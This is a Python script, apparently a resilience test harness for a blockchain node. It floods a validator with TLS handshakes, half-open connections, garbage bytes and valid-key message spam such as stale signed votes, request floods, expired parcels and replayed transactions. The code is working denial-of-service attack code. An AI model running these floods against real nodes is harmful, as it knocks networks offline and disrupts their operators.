"""What is done to a node.  `attacks.py NAME TARGET.json` does it until it is told to stop (or for
ten minutes) and prints one line of JSON: what it managed.

TARGET.json: {"address": [ip, port], "chain": hex, "url": API, "node_key", "consensus_key",
"passphrase": paths, "index": of that validator}.  Strangers use nothing but the address;
the others speak with the validator's valid key, and what they say is well-formed and useless."""
import functools
import json
import os
import signal
import socket
import sys
import time
import urllib.request

import wire
from wire import data, frame, number

SECONDS_MAX = 600
HALF_OPEN = 3000
BATCH = 512  # frames in one piece of a flood


class Target:
    def __init__(self, path):
        with open(path, encoding="utf-8") as source:
            told = json.load(source)
        self.address = tuple(told["address"])
        self.chain = bytes.fromhex(told["chain"])
        self.url, self.index = told["url"], told["index"]
        self.paths = told
        self.stopped = False
        self.end = time.monotonic() + SECONDS_MAX
        self.done = {}

    def count(self, what, times=1):
        self.done[what] = self.done.get(what, 0) + times

    def is_over(self):
        return self.stopped or time.monotonic() > self.end

    def stop(self, *_):
        self.stopped = True

    @functools.cache
    def key(self, name):
        return wire.stele.open_key_file(self.paths[name], self.paths["passphrase"])

    def get(self, path):
        with urllib.request.urlopen(self.url + path, timeout=10) as answer:
            return json.load(answer)

    def blocks(self, most=50):
        return self.get(f"/v1/blocks?limit={most}")["items"]


# ---- strangers --------------------------------------------------------------------------------

def handshake_flood(target):
    """TLS as far as it goes, and away."""
    while not target.is_over():
        try:
            peer = wire.Peer(target.address, patience=2)
            peer.handshake()
            peer.close()
            target.count("handshakes")
        except (wire.Ended, OSError):
            target.count("turned away")


def half_open(target):
    """Thousands of connections that say nothing; the ones that are ended are made again."""
    held = []
    while not target.is_over():
        while len(held) < HALF_OPEN and not target.is_over():
            try:
                held.append(socket.create_connection(target.address, 1))
                target.count("opened")
            except OSError:
                target.count("turned away")
                break
        for connection in held[:HALF_OPEN // 4]:
            connection.close()
        del held[:HALF_OPEN // 4]
        time.sleep(0.05)


def garbage(target):
    """Bytes that are no TLS, or look like it for a while."""
    openings = (b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x40\x00\x01", b"\x17\x03\x03\x40\x00", b"")
    while not target.is_over():
        try:
            with socket.create_connection(target.address, 1) as connection:
                connection.settimeout(0.2)
                connection.sendall(openings[target.done.get("sent", 0) % len(openings)]
                                   + os.urandom(20000))
                target.count("sent")
                connection.recv(1000)
        except OSError:
            pass


def strangers_hello(target):
    """A key that nobody knows, proven properly, again and again."""
    while not target.is_over():
        key = wire.ec.generate_private_key(wire.ec.SECP256K1())
        try:
            wire.open_session(target.address, wire.Liar(target.chain, key), patience=2).close()
            target.count("let in")
        except (wire.Ended, OSError) as refused:
            target.count(str(refused)[:20])


# ---- with a validator's key -------------------------------------------------------------------

def opened(target):
    return wire.open_session(target.address, wire.Liar(target.chain, target.key("node_key")))


def flood(target, blobs):
    """One blob after the other, as fast as the node takes them; back again when cut off."""
    peer, at = None, 0
    while not target.is_over():
        try:
            if peer is None:
                peer = opened(target)
                target.count("sessions")
            is_flushed = peer.flush()
            if is_flushed:
                peer.say(blobs[at % len(blobs)])
                target.count("blobs")
                at += 1
            peer.move(0 if is_flushed else 0.05)
            peer.read()
            peer.heard = b""
            if peer.is_over:
                raise wire.Ended("by the node")
        except (wire.Ended, OSError) as ended:
            target.count(f"ended: {str(ended)[:40]}")
            peer = None
            time.sleep(0.2)


def many(frames):
    """Blobs of BATCH frames."""
    frames = list(frames)
    while len(frames) < BATCH:
        frames += frames
    return [b"".join(frames[i:i + BATCH]) for i in range(0, len(frames), BATCH)]


def status(view=1, final_view=0, height=0, base=1, bitmap=b""):
    return frame(wire.STATUS, number(2, view) + number(4, final_view) + number(5, height)
                 + number(6, height) + number(7, 1) + number(8, base) + data(9, bitmap)
                 + data(10, bitmap) + number(11, int(time.time() * 1000)))


def statuses(target):
    """That it has nothing, and that it has everything: both call for answers."""
    flood(target, many([status(), status(10 ** 9, 10 ** 9, 10 ** 12),
                        status(600, 0, 0, 1, b"\xff" * 64)]))


def vote(target, kind, view, block):
    text = f"stele/v1 {('', 'notarize', 'nullify', 'finalize')[kind]}\nchain {target.chain.hex()}\n"
    text += f"epoch 0\nset {target.set_hash}\nview {view}\n"
    if kind != wire.NULLIFY:
        text += f"block {block.hex()}\n"
    return (number(1, kind) + number(3, view) + data(4, b"" if kind == wire.NULLIFY else block)
            + number(5, target.index) + data(6, wire.sign(target.consensus, text.encode())))


def old_votes(target):
    """Signed as they should be, for views long past and far ahead."""
    target.set_hash = target.get("/v1/validators")["set_hash"]
    target.consensus = target.key("consensus_key")
    views = [1, 2, 3, 10 ** 6, 2 ** 40]
    flood(target, many(frame(wire.VOTE, vote(target, kind, view, wire.random_hash()))
                       for view in views for kind in (1, 2, 3) for _ in range(8)))


def certificate_requests(target):
    flood(target, many(frame(wire.CERTIFICATE_REQUEST, number(1, kind) + number(3, view))
                       for view in range(1, 200) for kind in (1, 2, 3)))


def votes_requests(target):
    flood(target, many(frame(wire.VOTES_REQUEST, number(1, kind) + number(3, view))
                       for view in range(1, 200) for kind in (1, 2, 3)))


def block_requests(target):
    known = [bytes.fromhex(item["block"]) for item in target.blocks()]
    flood(target, many(frame(wire.BLOCK_REQUEST, data(1, block))
                       for block in known + [wire.random_hash() for _ in range(50)]))


def parcel_requests(target):
    digests = []
    for item in target.blocks():
        body = target.get(f"/v1/blocks/{item['height']}")["body"]
        digests += [bytes.fromhex(line.split()[1]) for line in body.splitlines()
                    if line.startswith("parcel ")]
    digests = (digests + [wire.random_hash() for _ in range(256)])[:256]
    payload = b"".join(wire.stele.data(1, digest) for digest in digests)
    flood(target, [frame(wire.PARCEL_REQUEST, payload) * 64])


def range_requests(target):
    flood(target, many(frame(wire.RANGE_REQUEST, number(1, height)) for height in range(1, 60)))


def not_reading(target):
    """Asks for much and takes nothing."""
    peer = None
    while not target.is_over():
        try:
            peer = peer or opened(target)
            if peer.flush():
                peer.say(many(frame(wire.RANGE_REQUEST, number(1, h)) for h in range(1, 60))[0]
                         + many([status()])[0])
                target.count("blobs")
            time.sleep(0.02)
        except (wire.Ended, OSError):
            target.count("ended")
            peer = None
            time.sleep(0.2)


def parcels(target):
    """Of its own, signed, and of no use: expired long ago, or full of what was recorded already."""
    node_key = target.key("node_key")
    raw = recorded_transaction(target)
    payload = len(raw).to_bytes(4, "big") + raw
    frames = []
    for sequence in range(BATCH):
        expires = 1 if sequence % 2 else target.blocks(1)[0]["height"] + 2000
        text = (f"stele/v1 parcel\nchain {target.chain.hex()}\nepoch 0\nauthor {target.index}\n"
                f"sequence {10 ** 15 + sequence}\nexpires {expires}\ncount 1\nbytes {len(payload)}\n"
                f"payload {wire.stele.sha256(payload).hex()}\n").encode()
        frames.append(frame(wire.PARCEL, data(1, text) + data(2, wire.sign(node_key, text))
                            + data(3, payload)))
    flood(target, many(frames))


def recorded_transaction(target):
    for item in target.blocks(500):
        for listed in target.get(f"/v1/blocks/{item['height']}")["transactions"]:
            with urllib.request.urlopen(f"{target.url}/v1/transactions/{listed['id']}/raw",
                                        timeout=10) as answer:
                return answer.read()
    raise SystemExit("nothing was recorded yet")


def transactions(target):
    """A thousand times what was decided already, in one message after the other."""
    raw = recorded_transaction(target)
    flood(target, [frame(wire.TRANSACTIONS, data(1, raw) * 1000) * 4])


def echoes(target):
    """The node's own proposals and answers back to it."""
    peer = opened(target)
    block = bytes.fromhex(target.blocks(1)[0]["block"])
    peer.say(frame(wire.BLOCK_REQUEST, data(1, block)) + status())
    kind, payload = peer.wait_frame(wire.PROPOSAL, wire.CERTIFICATE, seconds=20)
    peer.close()
    flood(target, many([frame(kind, payload)] * 8 + [frame(wire.EVIDENCE, os.urandom(4000))] * 8))


def new_sessions(target):
    """One session after the other, each in the place of the one before."""
    while not target.is_over():
        try:
            opened(target)
            target.count("sessions")
        except (wire.Ended, OSError) as refused:
            target.count(str(refused)[:20])


STRANGERS = {a.__name__: a for a in (handshake_flood, half_open, garbage, strangers_hello)}
MEMBERS = {a.__name__: a for a in (
    statuses, old_votes, certificate_requests, votes_requests, block_requests, parcel_requests,
    range_requests, not_reading, parcels, transactions, echoes, new_sessions)}


def main():
    os.nice(10)  # a foreign machine would not take the node's processors
    target = Target(sys.argv[2])
    signal.signal(signal.SIGTERM, target.stop)
    {**STRANGERS, **MEMBERS}[sys.argv[1]](target)
    print(json.dumps(target.done))


if __name__ == "__main__":
    main()
